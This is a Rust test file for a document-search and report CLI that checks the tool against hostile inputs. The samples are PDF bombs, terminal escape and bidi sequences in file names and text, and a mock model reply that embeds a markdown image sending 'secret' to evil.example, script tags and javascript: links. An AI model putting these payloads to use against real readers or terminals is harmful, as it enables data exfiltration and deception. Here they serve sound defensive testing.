//! Tests documents, names, models and settings made to do harm: they exhaust nothing, are not obeyed, and fetch and
//! reveal nothing.

use std::fs::{self, Permissions};
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

use pulldown_cmark::{Event, Options, Parser, Tag};

use crate::harness::{QUESTION, TestDir, files_below};
use crate::hostile_files::pdf;

/// Sequences that a terminal obeys: a colour, a title, a line's direction, a C1 command.
const ATTACK: &str = "\u{1b}[31m\u{1b}]0;owned\u{7}\u{202e}\u{9b}2J";

#[test]
fn a_bomb_is_named_and_the_rest_is_loaded() {
    let dir = TestDir::new();
    dir.write("work/docs/good.md", "# Good\n\nThe lighthouse was built in 1892.\n");
    for (name, bytes) in pdf::quick() {
        dir.write(&format!("work/docs/{name}"), bytes);
    }
    let load = dir.run(&["load", "docs", "--collection", "c", "--embedder", "none"]).ends_with(3);
    load.stderr_has("docs/flate-of-zeros.pdf: it needs more than 28")
        .stderr_has("docs/table-of-nothing.pdf: broken PDF")
        .stderr_has("docs/pages-in-a-circle.pdf: broken PDF")
        .stderr_has("docs/forms-in-a-circle.pdf: no text in it")
        .stdout_has("2 new");
    dir.run(&["search", "lighthouse"]).ends_with(0).stdout_has("1892");
}

fn check_for_people(command: &str, shown: &str) {
    let obeyed = |one: &char| {
        (one.is_control() && !matches!(one, '\n' | '\t'))
            || matches!(one, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    assert_eq!(shown.chars().find(obeyed), None, "{command}: {shown:?}");
}

#[test]
fn nothing_that_a_terminal_obeys_is_shown() {
    let dir = TestDir::new();
    let text = format!("# Lighthouse {ATTACK} tale\n\nThe {ATTACK} lighthouse was built in 1892{ATTACK}.\n");
    let name = format!("work/docs/a{ATTACK}.md");
    dir.write(&name, &text);
    dir.write(&format!("work/docs/b{}.pdf", "\u{1b}[31m"), "%PDF-1.4 broken");
    let tables: [(&[&str], i32); 10] = [
        (&["load", "docs", "--collection", "c", "--embedder", "none", "--verbose"], 3),
        (&["search", "lighthouse"], 0),
        (&["collections"], 0),
        (&["collections", "show", "c"], 0),
        (&["sources"], 0),
        (&["sources", "history"], 0),
        (&["query", "When was the lighthouse built?", "--offline", "--verbose", "-o", "report.md"], 0),
        (&["runs"], 0),
        (&["memory", "list"], 0),
        (&["read", ATTACK], 4),
    ];
    for (arguments, code) in tables {
        let ended = dir.run(arguments).without_env("CI").ends_with(code);
        check_for_people(&arguments.join(" "), &(ended.stdout + &ended.stderr));
    }
    let kept = dir.json(&["search", "lighthouse"]).to_string();
    assert!(kept.contains("\\u001b[31m") && kept.contains('\u{202e}'), "a name keeps its bytes: {kept}");
    let path = format!("docs/{}", name.rsplit('/').next().unwrap());
    let read = dir.run(&["read", &path]).ends_with(0);
    assert_eq!(read.stdout, text.replace(ATTACK, ""), "no stored text has them");
    check_for_people("read", &read.stderr);
}

#[test]
fn a_report_of_a_hostile_model_does_nothing() {
    let own = TestDir::new();
    let attack = "Film Roman drew the show [1]. ![x](https://evil.example/?q=secret) <script>alert(1)</script> \
                  [here](javascript:alert(1)) [there](https://evil.example) <img src=//evil.example>";
    let script = format!(
        "[[reply]]\npurpose = \"plan\"\njson = {{ reason = \"One side.\", sub_queries = [{{ query = \"Who drew the show?\", \
         collections = [] }}] }}\n[[reply]]\npurpose = \"reflect\"\njson = {{ reason = \"Enough.\", helpful = [1], enough = \
         true, sub_queries = [] }}\n[[reply]]\npurpose = \"write\"\ntext = '''{attack}'''\n"
    );
    let script = own.write("script.toml", script);
    let set = format!("llm.mock.script={}", script.display());
    let output = own.path("report.md");
    let run = |extra: &[&str]| {
        let arguments = [&["--set", "llm.provider=mock", "--set", &set, "query", QUESTION], extra].concat();
        TestDir::simpsons().run(&arguments).ends_with(0).stdout
    };
    let streamed = run(&[]);
    run(&["-o", &output.to_string_lossy()]);
    for report in [streamed, fs::read_to_string(&output).unwrap()] {
        assert!(report.contains("Film Roman drew the show [1]"), "{report}");
        // The record is one comment at the end, which nothing in it closes.
        let (report, record) = report.split_once("\n<!-- deepsearch-record ").expect("a record");
        assert_eq!(record.trim_end().find("-->"), Some(record.trim_end().len() - 3), "{record}");
        // The only HTML is the program's own, which folds the list of documents away.
        let own = ["<details>", "<summary>What became of every document</summary>", "</details>"];
        for event in Parser::new_ext(report, Options::all()) {
            match event {
                Event::Html(html) if own.contains(&html.trim()) => {}
                Event::Html(html) | Event::InlineHtml(html) => panic!("{html} in {report}"),
                Event::Start(Tag::Image { dest_url, .. }) => panic!("{dest_url} in {report}"),
                Event::Start(Tag::Link { dest_url, .. }) => {
                    assert!(!dest_url.contains("evil") && !dest_url.contains("script"), "{dest_url} in {report}");
                }
                _ => {}
            }
        }
    }
}

#[test]
fn what_is_stored_is_its_owners_alone() {
    let dir = TestDir::with_examples();
    let check = |when: &str| {
        let mode = |path: &std::path::Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&dir.data()), 0o700, "{when}");
        for file in files_below(&dir.data()) {
            assert_eq!(mode(&file), 0o600, "{when}: {}", file.display());
            assert_eq!(mode(file.parent().unwrap()), 0o700, "{when}: {}", file.display());
        }
    };
    dir.run(&["load", "examples/simpsons", "--embedder", "none"]).ends_with(0);
    dir.run(&["query", QUESTION, "--offline"]).without_env("CI").ends_with(0);
    check("as it was made");
    for file in files_below(&dir.data()) {
        fs::set_permissions(&file, Permissions::from_mode(0o644)).unwrap();
        fs::set_permissions(file.parent().unwrap(), Permissions::from_mode(0o755)).unwrap();
    }
    dir.run(&["collections"]).ends_with(0);
    check("as an earlier version left it");
}

#[test]
fn settings_that_harm_are_refused() {
    let dir = TestDir::new();
    let pipe = dir.path("pipe");
    assert!(Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    let refused = |path: &std::path::Path, part: &str| {
        let ended = dir.run(&["config", "show", "--config", &path.to_string_lossy()]).ends_with(2).stderr_has(part);
        assert!(ended.stderr.len() < 5000, "{} bytes", ended.stderr.len());
    };
    refused(&pipe, "no regular file but a folder, a pipe or a device");
    refused("/dev/zero".as_ref(), "no regular file but a folder, a pipe or a device");
    refused(&dir.write("long.toml", format!("{} = 1", "a".repeat(600_000))), "long.toml");
    refused(&dir.write("broken.toml", format!("[llm]\nmodel = \"{}", "a".repeat(600_000))), "broken.toml");
    refused(&dir.write("huge.toml", "# x\n".repeat(2_000_000)), "it is longer than");
    for key in ["llm.base_url", "embed.base_url", "sources.web.base_url"] {
        let set = format!("{key}=https://ann:hunter2@example.org/v1");
        let ended = dir.run(&["config", "show", "--set", &set]).ends_with(2).stderr_has("a name or a password");
        assert!(!ended.stderr.contains("hunter2"), "{}", ended.stderr);
    }
}
